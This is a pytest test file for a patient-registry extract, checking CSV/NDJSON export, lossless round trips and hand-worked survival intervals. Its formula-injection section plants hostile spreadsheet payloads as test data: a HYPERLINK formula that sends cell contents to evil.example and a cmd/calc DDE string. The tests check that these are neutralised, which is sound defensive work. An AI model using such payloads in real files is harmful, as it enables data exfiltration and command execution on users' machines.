"""The registry extract: the import's columns, a lossless round trip, derived values worked out by hand."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest

from service.case_files import import_rows
from service.errors import Unprocessable
from service.model import csv_flat
from service.registry import extract
from service.registry.extract import DERIVED_PREFIX, Options

NOW = "2026-01-01T00:00:00Z"


def _parse(lines) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(lines))))


def test_case_columns_are_the_csv_import_columns_in_order():
    assert extract.columns(Options(derived=False)) == csv_flat.column_names()
    with_derived = extract.columns(Options())
    n = len(csv_flat.column_names())
    assert with_derived[:n] == csv_flat.column_names()
    assert with_derived[n:] and all(name.startswith(DERIVED_PREFIX) for name in with_derived[n:])
    # The prefix marks derived columns unambiguously: no case column carries it.
    assert not any(name.startswith(DERIVED_PREFIX) for name in csv_flat.column_names())


def test_export_then_import_gives_back_the_same_cases(cases):
    text = "".join(extract.csv_lines(cases, Options(derived=False)))
    report = import_rows(text, NOW)
    assert not report.rejected, [r.issues for r in report.rejected]
    assert [row.case for row in report.imported] == cases


def test_the_import_refuses_derived_columns_so_round_trips_use_derived_false(cases):
    text = "".join(extract.csv_lines(cases, Options()))
    with pytest.raises(Unprocessable) as raised:
        import_rows(text, NOW)
    assert all(i.expression.startswith(DERIVED_PREFIX) for i in raised.value.issues)


def test_csv_rows_match_csv_flat_cell_for_cell(cases):
    rows = _parse(extract.csv_lines(cases, Options()))
    assert len(rows) == len(cases)
    for row, case in zip(rows, cases, strict=True):
        flat = csv_flat.flatten(case)
        assert {k: row[k] for k in flat} == flat


# Derived values, worked out by hand from the example files (months = days / 30.4375, 1 decimal).
#
# 001: diagnosis 2021-02-20, surgery 2021-04-12: 28 (to 03-20) + 23 = 51 days. One follow-up, ned:
#   no recurrence. DFS censored at last contact 2024-04-20: 2021-04-12 -> 2024-04-12 = 365 + 365 + 366
#   (29 Feb 2024) = 1096, + 8 = 1104 days = 36.27 -> 36.3. OS 2021-02-20 -> 2024-02-20 = 1095 days,
#   + 9 (to 29 Feb) + 31 + 20 = 1155 days = 37.95 -> 37.9; alive: censored.
# 003: diagnosis 2018-02-09, surgery 2018-05-07: 28 + 31 + 28 = 87 days. First follow-up not ned:
#   2019-11-14 (distant metastasis): 2018-05-07 -> 2019-05-07 = 365, + 184 (to 11-07) + 7 = 556 days
#   = 18.27 -> 18.3, event. Died 2021-06-18: 2018-02-09 -> 2021-02-09 = 1096 (29 Feb 2020), + 120
#   (to 06-09) + 9 = 1225 days = 40.25 -> 40.2, event.
# 007: not operated: no surgery interval, no recurrence, no DFS. Diagnosis 2023-03-15, alive at
#   2023-11-20: 245 (to 11-15) + 5 = 250 days = 8.21 -> 8.2, censored.
EXPECTED = {
    "ivclms-001": {
        "age_at_diagnosis_years": 52,
        "diagnosis_to_surgery_days": 51,
        "recurrence": False,
        "dfs_months": 36.3,
        "dfs_event": 0,
        "dfs_imprecise": False,
        "os_months": 37.9,
        "os_event": 0,
        "os_imprecise": False,
    },
    "ivclms-003": {
        "age_at_diagnosis_years": 45,
        "diagnosis_to_surgery_days": 87,
        "recurrence": True,
        "dfs_months": 18.3,
        "dfs_event": 1,
        "dfs_imprecise": False,
        "os_months": 40.2,
        "os_event": 1,
        "os_imprecise": False,
    },
    "ivclms-007": {
        "age_at_diagnosis_years": 68,
        "diagnosis_to_surgery_days": None,
        "recurrence": None,
        "dfs_months": None,
        "dfs_event": None,
        "dfs_imprecise": None,
        "os_months": 8.2,
        "os_event": 0,
        "os_imprecise": False,
    },
}
EXPECTED_CELLS = {
    "ivclms-001": ["52", "51", "false", "36.3", "0", "false", "37.9", "0", "false", ""],
    "ivclms-003": ["45", "87", "true", "18.3", "1", "false", "40.2", "1", "false", ""],
    "ivclms-007": ["68", "", "", "", "", "", "8.2", "0", "false", ""],
}


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_derived_values_worked_out_by_hand(case, stem):
    assert extract.derived_values(case(stem)) == EXPECTED[stem]


@pytest.mark.parametrize("stem", sorted(EXPECTED_CELLS))
def test_derived_cells(case, stem):
    row = _parse(extract.csv_lines([case(stem)], Options()))[0]
    derived = [name for name in row if name.startswith(DERIVED_PREFIX)]
    assert derived == [DERIVED_PREFIX + d.name for d in (*extract.DERIVED, extract.TRUNCATED)]
    assert [row[name] for name in derived] == EXPECTED_CELLS[stem]


def test_death_without_a_date_ends_at_the_last_contact_and_death_counts_for_dfs(case):
    died = case("ivclms-001")
    died["outcome"].update(vital_status="dead", death_date=None, last_contact="2022-04-12")
    values = extract.derived_values(died)
    # OS: 2021-02-20 -> 2022-02-20 = 365, + 28 (to 03-20) + 23 = 416 days = 13.67 -> 13.7, event.
    # DFS: 2021-04-12 -> 2022-04-12 = 365 days = 11.99 -> 12.0, event (death; that day's follow-up is ned).
    assert (values["os_months"], values["os_event"]) == (13.7, 1)
    assert (values["dfs_months"], values["dfs_event"], values["recurrence"]) == (12.0, 1, False)


def test_ndjson_lines_are_the_canonical_cases_plus_derived(cases):
    lines = list(extract.ndjson_lines(cases, Options()))
    assert all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
    for line, case in zip(lines, cases, strict=True):
        record = json.loads(line)
        assert record.pop("derived") == json.loads(json.dumps(extract.derived_values(case)))
        assert record == case
    plain = [json.loads(line) for line in extract.ndjson_lines(cases, Options(derived=False))]
    assert plain == cases


def test_a_case_longer_than_the_csv_layout_is_cut_and_says_so_while_ndjson_keeps_everything(case):
    long = case("ivclms-002")
    extra = [copy.deepcopy(long["follow_up"][-1]) for _ in range(6)]
    long["follow_up"] += extra
    assert len(long["follow_up"]) == 10
    row = _parse(extract.csv_lines([long], Options()))[0]
    assert row["follow_up8_disease_status"] == "stable" and "follow_up9_disease_status" not in row
    assert row[DERIVED_PREFIX + "csv_truncated"] == "follow_up: 10 entries, first 8 in this file"
    assert row[DERIVED_PREFIX + "recurrence"] == "true"
    record = json.loads(next(extract.ndjson_lines([long], Options())))
    assert len(record["follow_up"]) == 10
    assert len(long["follow_up"]) == 10  # the input is not changed


def test_options_refuse_deidentification_without_a_key():
    with pytest.raises(ValueError, match="key"):
        Options(deidentified=True)


# ---- issue 12, finding 5: formula injection -------------------------------------------------------
#
# OWASP, "CSV Injection": "This attack is difficult to mitigate, and explicitly disallowed from quite a
# few bug bounty programs. To remediate it, ensure that no cells begin with any of the following
# characters: Equals to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)" and, as
# the sanitisation that makes a spreadsheet read the content as text, "Prepend each cell field with a
# single quote".

FORMULAS = {
    ("institution",): '=HYPERLINK("http://evil.example/?"&A1,"x")',
    ("diagnosis", "biopsy_result"): "+1+2",
    ("diagnosis", "imaging", 0, "findings"): "@SUM(1+1)",
    ("reference",): "-2+3+cmd|' /C calc'!A0",
}


def _put(case: dict, path: tuple, value: str) -> None:
    node = case
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = value


def test_finding_5_csv_formula_injection_cells_are_neutralised_and_read_back(cases):
    hostile = copy.deepcopy(cases[0])
    for path, value in FORMULAS.items():
        _put(hostile, path, value)
    hostile["diagnosis"]["imaging"][1]["findings"] = "-1.5"  # a number in a text field: stays a number
    hostile["patient"]["history"] = [{"condition": "other", "text": "'=already quoted", "date": None}]
    lines = list(extract.csv_lines([hostile], Options(derived=False)))
    row = _parse(lines)[0]
    for cell in row.values():
        assert not cell.startswith(csv_flat.FORMULA_STARTS) or cell == "-1.5", cell
    assert row["institution"] == "'" + FORMULAS[("institution",)]
    assert row["reference"] == "'" + FORMULAS[("reference",)]
    assert row["diagnosis_imaging2_findings"] == "-1.5"
    assert row["patient_history1_text"] == "''=already quoted"
    # The import reads every cell back as the extract had it: the same case.
    report = import_rows("".join(lines), NOW)
    assert not report.rejected, [r.issues for r in report.rejected]
    assert report.imported[0].case == hostile


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number: a spreadsheet reads it as 1, not a formula
        ("+1+1", "'+1+1"),
        ("-1.5", "-1.5"),
        ("-3", "-3"),
        ("-1e-05", "-1e-05"),
        ("-", "'-"),
        ("-1.5;2.0", "'-1.5;2.0"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("'=1", "''=1"),
        ("'", "'"),
        ("'text", "'text"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_finding_5_neutralise_and_restore_are_inverse(value, cell):
    assert csv_flat.neutralise(value) == cell
    assert csv_flat.restore(cell) == value
